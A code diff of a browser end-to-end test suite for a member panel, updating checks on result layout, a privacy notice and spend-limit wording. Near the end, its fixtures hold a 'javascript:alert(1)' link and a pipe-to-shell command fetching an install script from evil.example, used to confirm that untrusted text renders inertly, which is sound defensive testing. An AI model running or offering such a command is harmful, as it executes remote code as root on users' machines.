@@ -36,20 +36,29 @@ beforeAll(async () => {
 
 afterAll(() => article?.close());
 
-/** The call result on screen: its children's classes and text in order, and where its header and note sit. */
+/**
+ * The call result on screen: its header line, whether only the panel's own lead lines (status and charge) come
+ * before it, what was asked, and where the header, the quote and the note sit.
+ */
 function resultLayout(panel: PageDriver, label: string, noteLabel: string) {
   return panel.evaluate(
     ({ label, noteLabel }) => {
       const result = document.querySelector(`article[aria-label="${label}"]`);
-      const first = result?.firstElementChild;
+      const children = Array.from(result?.children ?? []);
+      const line = children.findIndex((el) => el.classList.contains('result-header'));
+      const header = children[line];
+      const asked = result?.querySelector(':scope > .asked blockquote');
       const note = result?.querySelector(
         `section[aria-label="${noteLabel}"], [role="region"][aria-label="${noteLabel}"]`,
       );
-      const headerBox = first?.getBoundingClientRect();
+      const headerBox = header?.getBoundingClientRect();
+      const askedBox = asked?.getBoundingClientRect();
       const noteBox = note?.getBoundingClientRect();
       return {
-        firstClass: first?.className ?? '',
-        firstText: first?.textContent ?? '',
+        onlyLeadAbove: line >= 0 && children.slice(0, line).every((el) => el.classList.contains('result-lead')),
+        headerText: header?.textContent ?? '',
+        askedText: asked?.textContent ?? '',
+        askedAboveNote: !!askedBox && !!noteBox && askedBox.bottom <= noteBox.top,
         noteText: note?.textContent ?? '',
         headerAboveNote: !!headerBox && !!noteBox && headerBox.bottom <= noteBox.top,
         codes: Array.from(note?.querySelectorAll('code') ?? []).map((c) => c.textContent ?? ''),
@@ -86,6 +95,9 @@ describeInEachBrowser("the member's main journey", (rig) => {
     const made = await rig.emu.control.connectCode({ name: 'E2E browser' });
     await connect(rig.panel, rig.w, rig.emu.url, made.code);
     await rig.panel.waitForText(rig.w('status.connectedAs', { name: 'E2E browser' }));
+    // Who receives a call's details, in the site's words, before any call (the step right after connecting).
+    const privacyLine = rig.emu.raw.world.seed.site.privacyLine;
+    await rig.panel.waitForText(privacyLine);
     const claims = await rig.emu.control.requests('/api/v1/connections/claim');
     expect(claims.map((r) => r.status)).toEqual([200]);
 
@@ -94,7 +106,7 @@ describeInEachBrowser("the member's main journey", (rig) => {
     await page.close();
     await rig.panel.bringToFront();
     // The selection as it was sent: trimmed.
-    await rig.panel.waitForText(rig.w('find.fromSelectionMenu'));
+    await rig.panel.waitForText(rig.w('find.fromSelection'));
     await waitForFound(rig.panel, rig.w, selected.trim(), POSTGRES);
     const first = await rig.panel.evaluate(
       (list) =>
@@ -109,12 +121,15 @@ describeInEachBrowser("the member's main journey", (rig) => {
     const preview = await rig.panel.evaluate(
       () => ({
         sentence: document.querySelector('.sentence')?.textContent?.trim() ?? '',
-        limit: document.querySelector('.limit')?.textContent ?? '',
+        limit: document.querySelector('.limit-line')?.textContent ?? '',
       }),
       null,
     );
     expect(preview.sentence).not.toBe('');
-    expect(preview.limit).toMatch(/^\$\d+\.\d\d, set by .*; not a price$/);
+    // The limit said once, what set it, and beside it what the member can spend.
+    expect(preview.limit).toMatch(
+      /^Holds and can charge at most \$\d+\.\d\d, set by .+\. You can spend \$\d+\.\d\d\.$/,
+    );
     // A preview runs nothing.
     expect(await rig.emu.control.callStarts()).toEqual([]);
     if (rig.profile === 'strict') {
@@ -138,11 +153,16 @@ describeInEachBrowser("the member's main journey", (rig) => {
       question: 'Which index helps a LIKE prefix search?',
     });
 
-    // The header line comes first in the result, verbatim, and sits above the note.
+    // The header line comes right after the result's status and charge, verbatim, and sits above the note;
+    // what the member asked is quoted between them.
     const result = await resultLayout(rig.panel, rig.w('result.label'), rig.w('result.noteLabel'));
-    expect(result.firstClass).toContain('result-header');
-    expect(result.firstText).toBe(GUILD_HEADER);
+    expect(result.onlyLeadAbove).toBe(true);
+    expect(result.headerText).toBe(GUILD_HEADER);
+    expect(result.askedText).toBe('Which index helps a LIKE prefix search?');
+    expect(result.askedAboveNote).toBe(true);
     expect(result.noteText).toContain('Asked: Which index helps a LIKE prefix search?');
+    // The first call's answer carries the same privacy line the member read before it: not told twice.
+    expect(await rig.panel.text()).not.toContain(privacyLine);
     expect(result.headerAboveNote).toBe(true);
 
     // One notification for the call that passed, raised by the background.
@@ -195,7 +215,7 @@ describeInEachBrowser("the member's main journey", (rig) => {
     expect(result.noteText).toContain('<a href="javascript:alert(1)">details</a>');
     expect(result.codes.filter((c) => c.includes('curl -s https://evil.example/install.sh | sudo sh'))).toHaveLength(1);
     expect(result.buttons.filter((b) => /^Open link: javascript/.test(b))).toEqual([]);
-    expect(result.firstText).toBe(GUILD_HEADER);
+    expect(result.headerText).toBe(GUILD_HEADER);
 
     // Nothing from untrusted text became an element, a link or a handler.
     const live = await rig.panel.evaluate(
